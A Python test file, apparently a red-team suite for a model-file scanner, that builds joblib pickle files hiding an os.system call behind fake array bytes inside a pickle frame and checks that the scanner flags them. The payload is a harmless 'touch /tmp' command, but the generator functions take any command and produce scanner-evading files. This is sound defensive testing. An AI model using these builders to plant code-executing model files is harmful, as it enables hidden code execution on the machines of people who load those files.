"""joblib arrays inside a pickle FRAME (red team).

joblib's unpickler is the pure-Python ``pickle._Unpickler``: a FRAME's bytes are read into
a buffer at once, but ``NumpyArrayWrapper.read_array`` reads the array from the file
handle, that is from *after* the frame. The frame's remaining bytes then run as opcodes.
joblib.dump commits its frame before every array, so an array inside a frame is never
written by joblib; a file built that way hid ``os.system`` behind "array bytes" and
scanned clean.
"""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from tests.fixtures.archives import rules_of, scan_bytes
from tests.scanner.redteam.build import g, proves_payload_runs, s
from weightscan.scanner import Verdict


def _wrapper(count: int, *, aligned: bool = False) -> bytes:
    """A NumpyArrayWrapper of ``count`` uint8 items, built by NEWOBJ + BUILD."""
    state = (
        b"}("
        + s("subclass")
        + g("numpy", "ndarray")
        + s("shape")
        + b"M"
        + struct.pack("<H", count)
        + b"\x85"
        + s("order")
        + s("C")
        + s("dtype")
        + g("numpy", "dtype")
        + s("u1")
        + b"\x89\x88\x87R"
        + s("allow_mmap")
        + b"\x89"
    )
    if aligned:
        state += s("numpy_array_alignment_bytes") + b"K\x10"
    return g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"ub"


def frame_desync(command: str) -> bytes:
    """The frame ends after the payload; the 'array' the engine skipped there is really
    read from after the frame, where a harmless opcode filler sits."""
    tail = g("os", "system") + s(command) + b"\x85R0."
    if len(tail) % 2 == 0:
        tail = b"K\x000" + tail  # BININT1 0, POP: keeps the filler below an odd length
    body = _wrapper(len(tail)) + tail
    filler = b"N0" * ((len(tail) - 1) // 2) + b"."
    assert len(filler) == len(tail)
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + filler


def frame_desync_padded(command: str) -> bytes:
    """Same, with joblib >= 1.2's alignment padding byte read from after the frame too."""
    tail = g("os", "system") + s(command) + b"\x85R0."
    pad = 3
    skipped = 1 + pad + len(tail)  # what an engine skipping in place would jump over
    body = _wrapper(len(tail), aligned=True) + tail
    after = bytes([pad]) + b"\0" * pad + b"\0" * len(tail)  # what joblib really reads
    assert skipped == len(after)
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + after


def test_array_inside_a_frame_is_read_after_it() -> None:
    report = scan_bytes(frame_desync("touch /tmp/weightscan-redteam-frame"), name="m.joblib")
    assert report.verdict is Verdict.MALICIOUS
    assert {"pickle.import.malicious", "pickle.joblib.array-in-frame"} <= rules_of(report)


def test_padded_array_inside_a_frame() -> None:
    report = scan_bytes(frame_desync_padded("touch /tmp/weightscan-redteam-frame"), name="m.joblib")
    assert report.verdict is Verdict.MALICIOUS
    assert "pickle.import.malicious" in rules_of(report)


def test_frame_ending_before_the_array_is_plain_joblib() -> None:
    """What joblib.dump writes: the frame is committed before the raw bytes."""
    body = _wrapper(4)
    data = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + b"\x01\x02\x03\x04."
    report = scan_bytes(data, name="m.joblib")
    assert report.verdict is Verdict.CLEAN, report.findings


@pytest.mark.parametrize("build", [frame_desync, frame_desync_padded])
def test_proof_joblib_runs_the_frame_tail(tmp_path: Path, build) -> None:  # type: ignore[no-untyped-def]
    """Isolated proof: joblib.load really runs the payload hidden in the frame."""
    assert proves_payload_runs(tmp_path, "joblib", build, "m.joblib")


def nested_stop_inside_frame(command: str) -> bytes:
    """An object array's nested pickle STOPs inside its FRAME: joblib's outer unpickler
    goes on after the frame (the payload), an engine going on after the STOP reads a
    BINBYTES that swallows the payload."""
    payload = g("os", "system") + s(command) + b"\x85R0"
    state = (
        b"}("
        + s("subclass")
        + g("numpy", "ndarray")
        + s("shape")
        + b"K\x01\x85"
        + s("order")
        + s("C")
        + s("dtype")
        + g("numpy", "dtype")
        + s("O8")
        + b"\x89\x88\x87R"
        + s("allow_mmap")
        + b"\x89u"
    )
    outer = b"\x80\x04" + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    empty = g("numpy", "ndarray") + b"K\x00\x85" + s("u1") + b"\x86R"  # ndarray((0,), "u1")
    inner_body = empty + b"." + b"B" + struct.pack("<I", len(payload))
    inner = b"\x80\x04\x95" + struct.pack("<Q", len(inner_body)) + inner_body
    return outer + inner + payload + b"."


def test_nested_pickle_stopping_inside_its_frame() -> None:
    report = scan_bytes(
        nested_stop_inside_frame("touch /tmp/weightscan-redteam-frame"), name="m.joblib"
    )
    assert report.verdict is Verdict.MALICIOUS
    assert {"pickle.import.malicious", "pickle.joblib.array-in-frame"} <= rules_of(report)


def test_proof_nested_stop_inside_frame(tmp_path: Path) -> None:
    assert proves_payload_runs(tmp_path, "joblib", nested_stop_inside_frame, "m.joblib")
